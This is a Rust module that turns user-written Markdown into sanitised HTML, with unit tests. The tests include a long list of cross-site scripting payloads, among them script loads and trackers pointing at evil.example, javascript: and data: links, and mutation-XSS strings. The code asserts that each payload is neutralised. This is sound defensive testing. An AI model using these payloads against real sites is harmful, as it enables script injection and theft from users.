//! Text that people write in Markdown, made safe to show.
//!
//! Two layers, each enough alone: the Markdown events are filtered before they become HTML (no raw HTML, no images, only
//! links of allowed schemes), and the HTML passes an allow-list (R86).

use std::borrow::Cow;
use std::cmp::Reverse;
use std::collections::{HashMap, HashSet};
use std::ops::Range;
use std::sync::LazyLock;

use linkify::{LinkFinder, LinkKind};
use pulldown_cmark::{CowStr, Event, HeadingLevel, LinkType, Options, Parser, Tag, TagEnd, TextMergeStream, html};

/// Everything a text can be made of.
const TAGS: [&str; 24] = [
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "del",
    "code",
    "mark",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h3",
    "h4",
    "h5",
    "h6",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

/// How deep quotations and lists may lie in each other. Deeper ones lose their frame, not their text. Nobody reads past
/// this, and building HTML takes time with the square of the depth.
const MAX_DEPTH: usize = 24;

static ALLOWED: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(HashSet::from(TAGS))
        .clean_content_tags(HashSet::from(["script", "style"]))
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href", "title"])),
            ("ol", HashSet::from(["start"])),
        ]))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener nofollow ugc"))
        .strip_comments(true);
    builder.set_tag_attribute_value("pre", "dir", "ltr");
    // The marks of a list stand where its words begin, whatever the page around it does.
    builder.set_tag_attribute_value("ul", "dir", "auto");
    builder.set_tag_attribute_value("ol", "dir", "auto");
    builder.set_tag_attribute_value("pre", "tabindex", "0");
    builder
});

/// Markdown as HTML that can be put into a page unescaped; `ui::prose` does that.
///
/// Headings start at h3, below the page's own. Raw HTML shows as the text it is. An image shows as its description.
/// Links keep only http, https and mailto, and open in the same tab without passing on trust; a whole address in the text
/// is a link too. Characters that turn the direction of text are removed.
pub fn to_safe_html(markdown: &str) -> String {
    rendered(markdown, safe_events(markdown))
}

/// As [`to_safe_html`], with every line where its writer ended it (in a conversation, Enter means a new line), and with
/// the places marked that `marked` finds in a piece of text.
pub fn to_safe_lines(markdown: &str, marked: impl Fn(&str) -> Vec<Range<usize>>) -> String {
    let mut events = Vec::new();
    let mut in_code = false;
    for event in safe_events(markdown) {
        in_code = is_in_code(&event, in_code);
        match event {
            Event::SoftBreak => events.push(Event::HardBreak),
            Event::Text(text) if !in_code => push_marked(&mut events, &text, marked(&text)),
            other => events.push(other),
        }
    }
    rendered(markdown, events)
}

/// Whether a block of code is open after an event.
fn is_in_code(event: &Event<'_>, before: bool) -> bool {
    match event {
        Event::Start(Tag::CodeBlock(_)) => true,
        Event::End(TagEnd::CodeBlock) => false,
        _ => before,
    }
}

/// The pieces of a Markdown text that are not code, as they are shown: what [`to_safe_lines`] looks for places in.
pub fn texts(markdown: &str) -> Vec<String> {
    let mut in_code = false;
    let mut texts = Vec::new();
    for event in safe_events(markdown) {
        in_code = is_in_code(&event, in_code);
        if let Event::Text(text) = event
            && !in_code
        {
            texts.push(text.into_string());
        }
    }
    texts
}

/// Adds a text with some of its places marked. Of two that overlap, the one that begins first counts, or the longer.
fn push_marked(events: &mut Vec<Event<'_>>, text: &str, mut places: Vec<Range<usize>>) {
    let piece = |range: Range<usize>| Event::Text(CowStr::from(text.get(range).unwrap_or_default().to_owned()));
    places.sort_by_key(|place| (place.start, Reverse(place.end)));
    let mut done = 0;
    for place in places {
        if place.start >= done {
            events.push(piece(done..place.start));
            events.push(Event::InlineHtml(CowStr::Borrowed("<mark>")));
            events.push(piece(place.clone()));
            events.push(Event::InlineHtml(CowStr::Borrowed("</mark>")));
            done = place.end;
        }
    }
    events.push(piece(done..text.len()));
}

fn rendered(markdown: &str, events: Vec<Event<'_>>) -> String {
    let mut unsafe_html = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut unsafe_html, events.into_iter());
    ALLOWED.clean(&unsafe_html).to_string()
}

/// The beginning of a Markdown text as plain text on one line, at most `max_chars` characters, cut between words.
pub fn to_excerpt(markdown: &str, max_chars: usize) -> String {
    let mut text = String::new();
    for event in safe_events(markdown) {
        match event {
            Event::Text(piece) | Event::Code(piece) => text.push_str(&piece),
            Event::SoftBreak | Event::HardBreak | Event::End(_) if !ends_inline(&event) => text.push(' '),
            _ => {}
        }
        // Enough to cut from; the rest of a long text need not be read.
        if text.len() > max_chars * 8 + 64 {
            break;
        }
    }
    shorten(&text, max_chars)
}

/// Whether an event ends something inside a line, after which no space belongs.
fn ends_inline(event: &Event<'_>) -> bool {
    matches!(
        event,
        Event::End(TagEnd::Emphasis | TagEnd::Strong | TagEnd::Strikethrough | TagEnd::Link | TagEnd::Image)
    )
}

/// `text` on one line, cut between words to at most `max_chars` characters with an ellipsis as the last.
pub fn shorten(text: &str, max_chars: usize) -> String {
    let line = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if line.chars().count() <= max_chars {
        return line;
    }
    let cut: String = line.chars().take(max_chars.saturating_sub(1)).collect();
    let kept = match cut.rsplit_once(' ') {
        // A single long word is cut in the middle rather than lost.
        Some((words, _)) if words.len() * 2 > cut.len() => words,
        _ => cut.as_str(),
    };
    format!("{}…", kept.trim_end_matches([' ', ',', '.', ';', ':', '،']))
}

/// The events of a text without what is never shown.
fn safe_events(markdown: &str) -> Vec<Event<'_>> {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let mut events = Vec::new();
    // For every element that is open now: whether it was let through, so that its end is treated as its beginning was.
    let mut open: Vec<bool> = Vec::new();
    // How many elements are open in which an address stays text: links and code.
    let mut verbatim = 0_usize;
    let is_verbatim = |tag: &TagEnd| matches!(tag, TagEnd::Link | TagEnd::CodeBlock);
    for event in TextMergeStream::new(Parser::new_ext(markdown, options)) {
        match event {
            Event::Start(tag) => {
                verbatim += usize::from(is_verbatim(&tag.to_end()));
                let tag = if open.len() < MAX_DEPTH { safe_tag(tag) } else { None };
                open.push(tag.is_some());
                events.extend(tag.map(Event::Start));
            }
            Event::End(tag) => {
                verbatim = verbatim.saturating_sub(usize::from(is_verbatim(&tag)));
                if open.pop() == Some(true) {
                    events.push(Event::End(match tag {
                        TagEnd::Heading(level) => TagEnd::Heading(demoted(level)),
                        TagEnd::HtmlBlock => TagEnd::Paragraph,
                        other => other,
                    }));
                }
            }
            Event::Text(text) if verbatim == 0 => push_linked(&mut events, &clean(text)),
            Event::Html(text) | Event::InlineHtml(text) | Event::Text(text) => events.push(Event::Text(clean(text))),
            Event::Code(text) => events.push(Event::Code(clean(text))),
            Event::SoftBreak | Event::HardBreak | Event::Rule => events.push(event),
            // Footnotes, formulas and task marks are not switched on.
            Event::FootnoteReference(_) | Event::InlineMath(_) | Event::DisplayMath(_) | Event::TaskListMarker(_) => {}
        }
    }
    events
}

/// Adds a text with the web addresses in it as links.
fn push_linked(events: &mut Vec<Event<'_>>, text: &str) {
    for span in LinkFinder::new().kinds(&[LinkKind::Url]).spans(text) {
        let piece = Event::Text(CowStr::from(span.as_str().to_owned()));
        if span.kind().is_none() || !is_allowed_url(span.as_str()) {
            events.push(piece);
            continue;
        }
        let link = Tag::Link {
            link_type: LinkType::Autolink,
            dest_url: CowStr::from(span.as_str().to_owned()),
            title: CowStr::Borrowed(""),
            id: CowStr::Borrowed(""),
        };
        events.extend([Event::Start(link), piece, Event::End(TagEnd::Link)]);
    }
}

/// The element to show for one that was written; `None` shows only what is inside it.
fn safe_tag(tag: Tag<'_>) -> Option<Tag<'_>> {
    match tag {
        Tag::HtmlBlock => Some(Tag::Paragraph),
        Tag::Heading { level, .. } => Some(Tag::Heading {
            level: demoted(level),
            id: None,
            classes: Vec::new(),
            attrs: Vec::new(),
        }),
        Tag::Image { .. } => None,
        Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        } => is_allowed_url(&dest_url).then(|| Tag::Link {
            link_type,
            dest_url,
            title: clean(title),
            id,
        }),
        other => Some(other),
    }
}

/// Level 1 becomes 3, since the page and its section have the first two.
fn demoted(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H3,
        HeadingLevel::H2 => HeadingLevel::H4,
        HeadingLevel::H3 => HeadingLevel::H5,
        _ => HeadingLevel::H6,
    }
}

/// Absolute http and https addresses and mail addresses. Control characters refuse a link outright: browsers skip some
/// of them when they read a scheme.
pub fn is_allowed_url(url: &str) -> bool {
    if url
        .chars()
        .any(|c| c.is_control() || c.is_whitespace() || is_override(c))
    {
        return false;
    }
    let Some((scheme, rest)) = url.split_once(':') else {
        return false;
    };
    match scheme.to_ascii_lowercase().as_str() {
        "http" | "https" => rest
            .strip_prefix("//")
            .is_some_and(|host| !host.is_empty() && !host.starts_with(['/', '\\'])),
        "mailto" => !rest.is_empty(),
        _ => false,
    }
}

/// Removes the characters that reorder what stands after them.
fn clean(text: CowStr<'_>) -> CowStr<'_> {
    match without_overrides(&text) {
        Cow::Borrowed(_) => text,
        Cow::Owned(cleaned) => CowStr::from(cleaned),
    }
}

/// `text` without embeddings, overrides and isolates (U+202A to U+202E, U+2066 to U+2069). Marks that only hint at a
/// direction stay: people who write Arabic need them.
pub fn without_overrides(text: &str) -> Cow<'_, str> {
    if text.chars().any(is_override) {
        Cow::Owned(text.chars().filter(|&c| !is_override(c)).collect())
    } else {
        Cow::Borrowed(text)
    }
}

fn is_override(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn whole_addresses_are_links_and_lines_stay() {
        let link = |url: &str| format!("<a href=\"{url}\" rel=\"noopener nofollow ugc\">{url}</a>");
        let plain = "https://example.org/a_b_c?x=1#y";
        assert_eq!(
            to_safe_html(&format!("See {plain}, please.")),
            format!("<p>See {}, please.</p>\n", link(plain))
        );
        assert_eq!(
            to_safe_html("example.org ftp://example.org javascript:alert(1)")
                .matches("<a")
                .count(),
            0
        );
        for once in [
            format!("[here]({plain})"),
            format!("<{plain}>"),
            format!("[{plain}]({plain})"),
        ] {
            assert_eq!(to_safe_html(&once).matches("<a").count(), 1, "{once}");
        }
        for code in [format!("`{plain}`"), format!("```\n{plain}\n```")] {
            assert!(!to_safe_html(&code).contains("<a"), "{code}");
        }
        assert_eq!(to_safe_html("one\ntwo"), "<p>one\ntwo</p>\n");
        assert_eq!(
            to_safe_lines("one\ntwo\n\nthree", |_| Vec::new()),
            "<p>one<br>\ntwo</p>\n<p>three</p>\n"
        );
    }

    #[test]
    fn places_of_a_text_are_marked() {
        let words = |text: &str| {
            let places = ["@Sana", "@Sana Student", "Student"].map(|word| text.match_indices(word));
            places
                .into_iter()
                .flatten()
                .map(|(at, word)| at..at + word.len())
                .collect()
        };
        assert_eq!(
            to_safe_lines("So **@Sana Student** <b>@Sana</b>, `@Sana`", words),
            "<p>So <strong><mark>@Sana Student</mark></strong> &lt;b&gt;<mark>@Sana</mark>&lt;/b&gt;, <code>@Sana</code></p>\n"
        );
        assert_eq!(
            to_safe_lines("<mark>x</mark>", words),
            "<p>&lt;mark&gt;x&lt;/mark&gt;</p>\n"
        );
    }

    /// What a browser would act on, found by parsing the result as a browser does, not by searching its text.
    fn assert_harmless(markdown: &str) {
        let safe = to_safe_html(markdown);
        let document = scraper::Html::parse_fragment(&safe);
        for node in document.root_element().descendants() {
            let Some(element) = node.value().as_element() else {
                continue;
            };
            let name = element.name();
            assert!(
                name == "html" || TAGS.contains(&name),
                "<{name}> got through\nfrom: {markdown:?}\n  to: {safe}"
            );
            for (attribute, value) in element.attrs() {
                let fine = match (name, attribute) {
                    ("a", "href") => is_allowed_url(value),
                    ("a", "rel") => value == "noopener nofollow ugc",
                    ("a", "title") => true,
                    ("ol", "start") => value.bytes().all(|b| b.is_ascii_digit()),
                    ("pre", "dir") => value == "ltr",
                    ("ul" | "ol", "dir") => value == "auto",
                    ("pre", "tabindex") => value == "0",
                    _ => false,
                };
                assert!(
                    fine,
                    "{attribute}={value:?} got through\nfrom: {markdown:?}\n  to: {safe}"
                );
            }
        }
        // What is parsed once and written again must parse to the same: the heart of mutation XSS.
        assert_eq!(ALLOWED.clean(&safe).to_string(), safe, "unstable\nfrom: {markdown:?}");
        assert!(!safe.chars().any(is_override));
        to_excerpt(markdown, 120);
    }

    const PAYLOADS: &[&str] = &[
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=1 y=20>a</text></a></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<embed src=javascript:alert(1)>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<input autofocus onfocus=alert(1)>",
        "<body onload=alert(1)>",
        "<x contenteditable onblur=alert(1)>lose focus</x>",
        "<button form=f formaction=javascript:alert(1)>x</button>",
        "<p style=\"position:fixed;inset:0\">cover</p>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "</p></div></main><script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\u{1}script:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](\u{1}javascript:alert(1))",
        "[x](java&#x0A;script:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))",
        "[x](javascript://evil.example/%0aalert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](blob:https://a.example/1)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example)",
        "[x](/logout)",
        "[x](https:evil.example)",
        "[x](https:///evil.example)",
        "[x](https:/\\evil.example)",
        "[x](https://a.example \"onmouseover=alert(1)\")",
        "[x](https://a.example \"&quot; onmouseover=&quot;alert(1)\")",
        "[x](https://a.example/\"onmouseover=alert(1)//)",
        "[x](mailto:a@b.example?subject=<script>)",
        "![x](https://evil.example/track.png)",
        "![x](javascript:alert(1))",
        "![x\"onerror=\"alert(1)](x)",
        "[![x](https://evil.example/a.png)](javascript:alert(1))",
        "<javascript:alert(1)>",
        "<https://a.example/\"onmouseover=alert(1)>",
        "[a]: javascript:alert(1)\n\n[a]",
        "[a]: data:text/html,x 'title'\n\n[x][a]",
        "```\"><script>alert(1)</script>\nx\n```",
        "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`",
        "| a | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
        "# <script>alert(1)</script> {#id onclick=alert(1)}",
        "99999999999. <b onclick=alert(1)>x</b>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "\\<script>alert(1)\\</script>",
        "user\u{202E}gpj.exe and [x\u{2066}](https://a.example/\u{202E}moc.live)",
        "a\0b<scr\0ipt>alert(1)</scr\0ipt>",
        "<a href=\"https://a.example\" target=_blank onclick=alert(1)>x</a>",
        "<div><p>nested <b>tags</b></div>",
        "<plaintext>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<title></title><script>alert(1)</script>",
        "<select><style></select><img src=x onerror=alert(1)></style></select>",
        "<frameset onload=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<table background=javascript:alert(1)><td>",
        "<img src=`javascript:alert(1)`>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<<script>alert(1);//<</script>",
        "<script/xss src=//evil.example/x.js>",
        "<svg/onload=alert(1)//",
        "\u{FEFF}<script>alert(1)</script>",
        "＜script＞alert(1)＜/script＞",
    ];

    #[test]
    fn payloads_do_nothing() {
        for payload in PAYLOADS {
            assert_harmless(payload);
            for (before, after) in [
                ("- ", ""),
                ("> ", ""),
                ("**", "**"),
                ("[", "](https://a.example)"),
                ("text ", " text"),
            ] {
                assert_harmless(&format!("{before}{payload}{after}"));
            }
        }
    }

    #[test]
    fn hostile_strings_do_nothing() {
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/data/hostile-strings/blns.json");
        // The collection lies beside the repository, not in it.
        let Ok(text) = std::fs::read_to_string(path) else {
            return;
        };
        let strings: Vec<String> = serde_json::from_str(&text).unwrap();
        assert!(strings.len() > 400);
        for string in strings {
            assert_harmless(&string);
        }
    }

    #[test]
    fn ordinary_writing_survives() {
        let safe = to_safe_html(
            "# Round 1\n\nAsked about **B-trees** and `Vec<String>`, see [notes](https://a.example/x?y=1&z=2).\n\n1. one\n2. two\n\n~~old~~\n\n| q | a |\n|---|---|\n| 1 | 2 |",
        );
        for expected in [
            "<h3>Round 1</h3>",
            "<strong>B-trees</strong>",
            "<code>Vec&lt;String&gt;</code>",
            "href=\"https://a.example/x?y=1&amp;z=2\"",
            "rel=\"noopener nofollow ugc\"",
            "<ol dir=\"auto\">",
            "<del>old</del>",
            "<td>2</td>",
        ] {
            assert!(safe.contains(expected), "{expected} is missing in {safe}");
        }
        assert!(to_safe_html("I like Vec<String> best").contains("Vec&lt;String&gt;"));
        assert!(to_safe_html("![the whiteboard](https://a.example/w.png)").contains("the whiteboard"));
    }

    #[test]
    fn deep_nesting_is_cut() {
        for unit in ["> ", "- a\n  ", "1. ", "[", "![", "*a ", "[a](", "<b>"] {
            let deep = unit.repeat(5_000) + "x";
            let safe = to_safe_html(&deep);
            assert!(safe.matches("<blockquote").count() <= MAX_DEPTH, "{unit:?}");
            assert!(safe.contains('x') || unit.contains("a"), "{unit:?} lost its text");
            to_excerpt(&deep, 100);
        }
        assert_harmless(&"> ".repeat(100));
        assert_harmless(&("> ".repeat(MAX_DEPTH - 1) + "| a | b |\n" + &"> ".repeat(MAX_DEPTH - 1) + "|---|---|\n"));
    }

    #[test]
    fn excerpts_are_plain_and_short() {
        assert_eq!(
            to_excerpt("# Title\n\nSome *emphasised* `code`, [link](https://a.example).", 100),
            "Title Some emphasised code, link."
        );
        assert_eq!(to_excerpt("one two three four", 12), "one two…");
        assert_eq!(to_excerpt("abcdefghijkl", 5), "abcd…");
        assert_eq!(to_excerpt("", 5), "");
        assert!(to_excerpt("سؤال عن قواعد البيانات والشبكات", 15).chars().count() <= 15);
    }
}
